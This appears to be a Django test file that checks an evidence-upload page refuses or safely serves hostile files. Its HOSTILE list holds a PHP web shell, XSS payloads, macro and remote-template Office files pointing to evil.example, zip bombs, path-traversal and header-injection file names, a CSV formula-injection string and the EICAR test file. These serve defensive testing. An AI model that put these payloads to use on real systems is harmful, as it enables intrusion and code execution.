"""P16: what somebody may send as evidence who means harm, through the page. Each is refused with words that say what to
do, or kept and only ever handed out as an attachment that a browser neither shows nor runs."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client
from django.test.utils import override_settings

from actions.models import Action, Event, Evidence
from tests.factories import TODAY, World, action, world
from tests.files import (
    CSV,
    JPEG,
    PDF,
    archive,
    office,
    open_document,
    png,
    pointer,
)  # fmt: skip

pytestmark = pytest.mark.django_db

EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*").encode()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><script>alert(1)</script>"
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
TEMPLATE = pointer("attachedTemplate", "http://evil.example/t.dotm")
VBA = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def lying() -> bytes:
    """A table of contents that says it is small, and is not."""
    made = bytearray(archive(("[Content_Types].xml", b"<Types>" + b" " * 9_000_000 + b"</Types>")))
    at = made.rindex(b"PK\x01\x02") + 24
    made[at : at + 4] = (1000).to_bytes(4, "little")
    return bytes(made)


def locked() -> bytes:
    made = bytearray(office())
    for at in [found.start() + 8 for found in re.finditer(b"PK\x01\x02", bytes(made))]:
        made[at] |= 1
    return bytes(made)


# Name, bytes, and the words of its refusal; None where it is kept.
HOSTILE: list[tuple[str, bytes, str | None]] = [
    ("logo.svg", SVG, "is a web page or a drawing"),
    ("logo.png", SVG, "is a web page or a drawing"),
    ("page.html", HTML, "is a web page or a drawing"),
    ("page.txt", b"Minutes\n" + HTML, "is a web page or a drawing"),
    ("page.xhtml", b'<?xml version="1.0"?><html xmlns="x"/>', "is a web page or a drawing"),
    ("shell.php", b"<?php system($_GET['x']);", "is a web page or a drawing"),
    ("wide.txt", HTML.decode().encode("utf-16"), "Save it with the encoding UTF-8"),
    ("both.pdf", PDF + HTML + b"\n%%EOF", "holds a web page or an archive"),
    ("both.jpg", JPEG + archive(("evil.class", b"x")), "holds a web page or an archive"),
    ("picture.jpg", JPEG + HTML, "holds a web page or an archive"),
    ("both.png", png() + HTML, "has something behind the picture"),
    ("huge.png", png(60_000, 60_000), "has too many pixels"),
    ("broken.png", png()[:-4], "is damaged"),
    ("broken.pdf", b"%PDF-1.7\n1 0 obj", "is a PDF that breaks off"),
    ("front.pdf", b"<html>\n" + PDF, "is a web page or a drawing"),
    ("macro.docm", office("docm"), "has macros"),
    ("macro.docx", office("docx", ("word/vbaProject.bin", b"x")), "has macros"),
    ("hidden.docx", office("docx", ("word/other.bin", b"x"), held=VBA), "has macros"),
    ("active.xlsx", office("xlsx", ("xl/activeX/activeX1.bin", b"x")), "has macros"),
    ("package.docx", office("docx", ("word/embeddings/oleObject1.bin", b"MZ")), "has macros"),
    ("macro.odt", open_document("text", ("Basic/Standard/Module1.xml", b"x")), "has macros"),
    ("template.docx", office("docx", points=TEMPLATE), "fetches a template or a picture from elsewhere"),
    ("beacon.docx", office(points=pointer("image", "//evil.example/a.png")), "fetches a template or a picture"),
    ("part.docx", office(points=pointer("subDocument", "//evil.example/a")), "fetches a template or a picture"),
    ("template.dotx", office("dotx"), "is an Office file of a kind that is not taken"),
    ("entities.docx", archive(("[Content_Types].xml", ENTITIES)), "cannot be read: it is damaged"),
    ("bomb.docx", office("docx", ("word/media/0", b"\x00" * 60_000_000)), "unpacks to far more"),
    ("many.docx", office("docx", *[(f"word/{n}", b"") for n in range(5001)]), "unpacks to far more"),
    ("lying.docx", lying(), "cannot be read: it is damaged"),
    ("locked.docx", locked(), "is locked with a password"),
    ("slip.docx", office("docx", ("../../evil.sh", b"x")), "cannot be read: it is damaged"),
    ("twice.docx", office("docx", ("WORD/document.xml", b"x")), "cannot be read: it is damaged"),
    ("tail.docx", office() + HTML, "cannot be read: it is damaged"),
    ("torn.docx", office()[:-40], "cannot be read: it is damaged"),
    ("tools.zip", archive(("run.exe", b"MZ")), "is an archive"),
    ("tools.docx", archive(("run.exe", b"MZ")), "is an archive"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "is in an old Office format, or locked"),
    ("run.exe", b"MZ\x90\x00\x03" + b"\x00" * 60, "is of a kind that is not taken"),
    ("report.pdf", b"\x7fELF\x02\x01\x01\x00", "is of a kind that is not taken"),
    ("rich.rtf", rb"{\rtf1\object evil}", "is rich text"),
    ("photo.heic", b"\x00\x00\x00\x18ftypheic\x00\x00", "Save a picture as JPEG"),
    ("moving.gif", b"GIF89a/*" + b"\x00" * 20, "is a GIF picture"),
    ("virus.txt", EICAR, "is a test virus"),
    ("nothing.pdf", b"", "is empty"),
    ("excel.csv", "Team;£ spent\n".encode("cp1252"), "save it as “CSV UTF-8”"),
    ("../../../etc/cron.d/evil.txt", b"x", None),
    ("..\\..\\evil.txt", b"x", None),
    ("gpj.\u202etxt.exe", b"x", None),
    ("a" * 300 + ".txt", b"x", None),
    ('x"\r\nSet-Cookie: a=b.txt', b"x", None),
    ("run.js", b"alert(1)", None),
    ("run.bat", b"del *.*", None),
    ("sums.csv", b"=cmd|' /C calc'!A0,1\n", None),
    ("page.html", CSV, None),
    (".htaccess", b"AddType text/html .txt", None),
]  # fmt: skip


@pytest.fixture
def w(time_machine: Any) -> World:
    time_machine.move_to(f"{TODAY}T12:00:00+01:00")
    return world()


def client_of(seat: Any) -> Client:
    client = Client()
    client.force_login(seat.user)
    return client


def send(client: Client, name: str, data: bytes) -> HttpResponse:
    """As a browser would, with the name just as it is."""
    file = SimpleUploadedFile("x", data)
    file._name = name  # Django's own upload would clean it before it is sent
    said = {"version": 1, "words": "The log", "kind": "audit", "shows": "completion", "file": file}
    return client.post("/wessex/actions/A-1/attach/", said)


def stored(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "data", "words"), HOSTILE, ids=[f"{n}-{name[:20]}" for n, (name, _, _) in enumerate(HOSTILE)]
)
def test_it_is_refused_with_words_or_handed_out_as_an_attachment_alone(
    w: World, tmp_path: Path, name: str, data: bytes, words: str | None
) -> None:
    action(w)
    client = client_of(w.alice)
    with override_settings(MEDIA_ROOT=tmp_path):
        answer = send(client, name, data)
        kept = stored(tmp_path)

        if words is not None:
            shown = " ".join(answer.content.decode().split())
            assert answer.status_code == 422
            assert words in shown
            assert "Choose the file again" in shown
            assert "The log</textarea>" in shown
            assert (kept, Evidence.objects.count(), Action.objects.get().version) == ([], 0, 1)
            return
        one = Evidence.objects.get()
        got = client.get(f"/wessex/actions/A-1/evidence/{one.pk}/")

    assert answer.status_code == 302
    assert [re.fullmatch(r"[0-9a-f]{40}", path.name) is not None for path in kept] == [True]
    assert (got.status_code, got.content) == (200, data)
    assert got["Content-Disposition"].startswith("attachment; ")
    assert got["X-Content-Type-Options"] == "nosniff"
    assert got["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert "no-store" in got["Cache-Control"]
    assert got["Content-Type"] in ("text/plain; charset=utf-8", "text/csv; charset=utf-8")
    assert one.file_name.endswith((".txt", ".csv"))
    assert not set(one.file_name) & set('/\\\r\n"\u202e')
    assert len(one.file_name) <= 125
    assert Event.objects.filter(verb="attach").count() == 1


def test_there_are_at_least_thirty_of_them() -> None:
    assert len([words for _, _, words in HOSTILE if words]) >= 30
    assert len(HOSTILE) == len({(name, data) for name, data, _ in HOSTILE})


def test_one_that_is_too_large_is_cut_short_and_everything_else_that_was_typed_stays(
    w: World, settings: Any, tmp_path: Path
) -> None:
    settings.EVIDENCE_MAX_MB, settings.MEDIA_ROOT = 1, tmp_path
    action(w)

    answer = send(client_of(w.alice), "large.txt", b"x" * 9_000_000)

    shown = answer.content.decode()
    assert answer.status_code == 422
    assert "“large.txt” is larger than 1 MB. Add only the pages that show it, or a link to it." in shown
    assert "The log</textarea>" in shown
    assert stored(tmp_path) == []
    assert answer.context["form"].files["file"].size < 1.2 * 1024 * 1024
